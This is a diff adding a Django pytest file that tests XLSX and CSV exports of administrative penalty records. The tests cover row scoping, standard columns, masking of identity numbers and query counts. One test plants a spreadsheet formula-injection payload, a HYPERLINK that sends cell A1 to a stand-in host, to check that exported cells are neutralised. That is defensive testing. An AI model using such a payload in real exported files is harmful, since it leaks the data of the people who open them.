@@ -1,0 +1,94 @@
+"""Exported files: the list's own rows, the item's own columns, and nothing a spreadsheet would run."""
+
+import csv
+import io
+from typing import Any
+
+import openpyxl
+import pytest
+from django.test import Client
+from django.urls import reverse
+
+from apps.catalogue.specs import item_spec
+from apps.records.models import Record
+from tests.subjects import factories as subjects
+
+from .factories import Office, enter, item, put
+from .test_pages import logged_in
+
+EXPORT = reverse("admin:records_record_export")
+XLSX, CSV = "0", "1"
+
+
+def exported(client: Client, kind: str, query: str = "") -> list[list[str]]:
+    answer = client.post(f"{EXPORT}?{query}", {"format": kind, "resource": "0"})
+    content = b"".join(answer.streaming_content)
+    assert answer["Content-Disposition"].startswith("attachment;")
+    if kind == CSV:
+        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+    assert sheet is not None
+    return [[cell or "" for cell in row] for row in sheet.iter_rows(values_only=True)]  # type: ignore[misc]
+
+
+@pytest.fixture
+def clerk(market: Office) -> Client:
+    return logged_in(market.clerk)
+
+
+@pytest.mark.parametrize("kind", [XLSX, CSV])
+def test_the_rows_of_the_list_and_no_others(clerk: Client, market: Office, tax: Office, kind: str) -> None:
+    draft, submitted = enter(market), put(enter(market), "submitted")
+    foreign = enter(tax)
+    everything = exported(clerk, kind)
+    numbers = {row[0] for row in everything[1:]}
+    assert numbers == {draft.document_number, submitted.document_number}
+    assert foreign.document_number not in str(everything)
+    assert [row[0] for row in exported(clerk, kind, "state__exact=draft")[1:]] == [draft.document_number]
+    assert [row[0] for row in exported(clerk, kind, f"q={submitted.document_number}")[1:]] == [
+        submitted.document_number
+    ]
+
+
+@pytest.mark.parametrize("kind", [XLSX, CSV])
+def test_one_items_list_has_the_columns_of_its_standard(clerk: Client, market: Office, kind: str) -> None:
+    record = enter(market, fine_amount="1.5", valid_to="2099/12/31")
+    rows = exported(clerk, kind, f"item__id__exact={item().pk}")
+    assert rows[0] == [each.label for each in item_spec(item()).fields]
+    shown = dict(zip(rows[0], rows[1], strict=True))
+    assert shown["行政相对人代码_1(统一社会信用代码)"] == record.subject.uscc
+    assert shown["罚款金额(万元)"] == "1.5"
+    assert shown["处罚决定日期"] == "2025/09/26"
+    assert shown["处罚有效期"] == "2099/12/31"
+    assert shown["行政相对人类别"] == "法人及非法人组织"
+
+
+@pytest.mark.parametrize("kind", [XLSX, CSV])
+@pytest.mark.parametrize("query", ["", "item__id__exact={item}"])
+def test_no_cell_begins_like_a_formula(clerk: Client, market: Office, kind: str, query: str) -> None:
+    attack = '=HYPERLINK("https://example.org?"&A1,"点我")'
+    enter(market, document_number=attack, content="+1+1", facts="@SUM(A1)", note="-2+3", document_name=attack)
+    for row in exported(clerk, kind, query.format(item=item().pk))[1:]:
+        assert not [cell for cell in row if cell[:1] in set("=+-@\t\r")]
+
+
+@pytest.mark.parametrize("kind", [XLSX, CSV])
+def test_confidential_values_are_covered(clerk: Client, market: Office, kind: str) -> None:
+    number = subjects.identity_number(55)
+    given: dict[str, Any] = {"legal_representative": "李四", "representative_document_kind": "身份证"}
+    enter(market, **given, representative_document_number=number)
+    rows = exported(clerk, kind, f"item__id__exact={item().pk}")
+    assert number not in str(rows) and number[-4:] not in dict(zip(rows[0], rows[1], strict=True))["法定代表人证件号码"]
+
+
+def test_the_page_names_the_columns(clerk: Client, market: Office) -> None:
+    enter(market)
+    assert "行政处罚决定书文号" in clerk.get(f"{EXPORT}?item__id__exact={item().pk}").text
+
+
+def test_queries_do_not_grow_with_rows(clerk: Client, market: Office, django_assert_max_num_queries: Any) -> None:
+    for _ in range(12):
+        enter(market)
+    with django_assert_max_num_queries(22):
+        exported(clerk, CSV, f"item__id__exact={item().pk}")
+    assert Record.objects.count() == 12
